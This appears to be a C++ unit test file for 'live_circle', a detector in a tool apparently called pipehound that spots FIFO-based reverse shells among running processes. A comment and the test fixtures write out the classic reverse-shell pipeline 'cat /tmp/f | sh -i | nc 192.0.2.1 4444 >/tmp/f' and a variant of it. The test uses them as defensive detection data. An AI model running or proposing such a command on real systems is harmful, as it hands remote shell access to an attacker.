// SPDX-License-Identifier: Apache-2.0
#include "detect/live_circle.hpp"

#include <boost/test/unit_test.hpp>

#include "detect/detector.hpp"
#include "support/history.hpp"

using namespace pipehound;
using detect::live_circle;
using event::Descriptor;
using event::LiveProcess;
using test::History;
using Kind = Descriptor::Kind;

namespace {

LiveProcess a_process(int pid, std::vector<std::string> argv, std::vector<Descriptor> descriptors) {
    LiveProcess live{.pid = event::Pid{pid}, .ppid = event::Pid{100}};
    live.exe = History::exe_of(argv.front());
    live.argv = std::move(argv);
    live.descriptors = std::move(descriptors);
    return live;
}

Descriptor pipe_end(int fd, std::uint64_t inode, bool writes) {
    return {fd, Kind::pipe, 1, inode, !writes, writes, "", false, {}};
}
Descriptor fifo_end(int fd, bool reads, bool writes) {
    return {fd, Kind::fifo, 2, 7, reads, writes, "/tmp/f", false, {}};
}
Descriptor connection(int fd) {
    return {fd, Kind::socket, 3, 9, true, true, "", false, {"192.0.2.1", 4444}};
}

// cat /tmp/f | SHELL | nc >/tmp/f
std::vector<LiveProcess> pipeline(std::vector<std::string> shell) {
    return {a_process(102, {"cat", "/tmp/f"}, {fifo_end(3, true, false), pipe_end(1, 11, true)}),
            a_process(103, std::move(shell),
                    {pipe_end(0, 11, false), pipe_end(1, 12, true), pipe_end(2, 12, true)}),
            a_process(104, {"nc", "192.0.2.1", "4444"},
                    {pipe_end(0, 12, false), fifo_end(1, false, true), connection(3)})};
}

}  // namespace

BOOST_AUTO_TEST_SUITE(live_circle_tests)

// cat reads the FIFO at descriptor 3, not at standard input: what a program that is no shell opened
// itself counts, too.
BOOST_AUTO_TEST_CASE(a_closed_circle_is_found_with_its_legs) {
    const auto found = live_circle(pipeline({"sh", "-i"}));
    BOOST_REQUIRE(found.has_value());
    BOOST_TEST(event::number(found->shell) == 103);
    BOOST_TEST(event::number(found->network) == 104);
    BOOST_TEST(found->remote.port == 4444);
    BOOST_TEST(found->fifo == "/tmp/f");
    BOOST_TEST(found->takes_commands);
}

BOOST_AUTO_TEST_CASE(a_loop_in_the_circle_is_found_but_not_known_to_obey) {
    const auto found = live_circle(pipeline({"bash", "job.sh"}));
    BOOST_REQUIRE(found.has_value());
    BOOST_TEST(!found->takes_commands);
}

BOOST_AUTO_TEST_CASE(no_circle_closes_where_the_shell_reads_something_else) {
    auto processes = pipeline({"sh", "-i"});
    processes[1].descriptors[0] = pipe_end(0, 99, false);
    BOOST_TEST(!live_circle(processes).has_value());
}

BOOST_AUTO_TEST_CASE(no_circle_closes_without_a_fifo) {
    auto processes = pipeline({"sh", "-i"});
    processes[0].descriptors[0] = pipe_end(0, 13, false);
    processes[2].descriptors[1] = pipe_end(1, 13, true);
    BOOST_TEST(!live_circle(processes).has_value());
}

BOOST_AUTO_TEST_CASE(no_circle_closes_without_a_connection) {
    auto processes = pipeline({"sh", "-i"});
    processes[2].descriptors.pop_back();
    BOOST_TEST(!live_circle(processes).has_value());
}

BOOST_AUTO_TEST_CASE(a_relay_has_no_shell) {
    BOOST_TEST(!live_circle(pipeline({"tee", "log"})).has_value());
}

BOOST_AUTO_TEST_CASE(a_descriptor_that_all_inherited_joins_nobody) {
    // exec 3<>/tmp/f; sh -i | nc: both have the FIFO at 3, neither uses it.
    const std::vector<LiveProcess> processes{
        a_process(103, {"sh", "-i"}, {fifo_end(3, true, true), pipe_end(1, 12, true)}),
        a_process(104, {"nc", "192.0.2.1", "4444"},
                {pipe_end(0, 12, false), fifo_end(3, true, true), connection(4)})};
    BOOST_TEST(!live_circle(processes).has_value());
}

BOOST_AUTO_TEST_CASE(what_is_seen_open_confirms_the_incident_that_asked) {
    event::NodeNames nodes;
    detect::Detector detector{nodes};
    History history;
    history.exec(100, 1, {"bash", "job.sh"});
    history.make_fifo(101, 100, "/tmp/f");
    history.open(103, 100, "bash", History::Mode::read);
    history.open(104, 100, "bash", History::Mode::write);
    history.exec(104, 100, {"nc", "192.0.2.1", "4444"});
    history.connect(104, 100, "nc");
    for (const auto& event : history.events()) BOOST_TEST(detector.advance(event).empty());
    (void)detector.expire(history.time + event::Duration{1});

    std::string incident;
    for (const auto& inquiry : detector.inquiries())
        if (inquiry.what == detect::Inquiry::What::incident) incident = inquiry.incident;
    BOOST_REQUIRE(!incident.empty());
    auto loop = a_process(103, {"bash", "job.sh"}, {fifo_end(0, true, false), pipe_end(1, 12, true)});
    auto tool = a_process(104, {"nc", "192.0.2.1", "4444"},
                        {pipe_end(0, 12, false), fifo_end(1, false, true), connection(3)});
    loop.started = tool.started = history.time;
    const auto alerts =
        detector.confirm(incident, {loop, tool}, history.time + event::Duration{50});
    BOOST_REQUIRE(alerts.size() == 1u);
    BOOST_TEST((alerts[0].level == event::Level::medium));
    BOOST_TEST(event::number(alerts[0].member(alert::Role::shell)->pid) == 103);
    BOOST_TEST(alerts[0].remote->endpoint.port == 4444);
    BOOST_TEST(
        detector.confirm(incident, {loop, tool}, history.time + event::Duration{99}).empty());
}

BOOST_AUTO_TEST_CASE(an_answer_to_an_unknown_incident_is_ignored) {
    event::NodeNames nodes;
    detect::Detector detector{nodes};
    BOOST_TEST(detector.confirm("ph-0", pipeline({"sh"}), event::Time{}).empty());
}

BOOST_AUTO_TEST_SUITE_END()
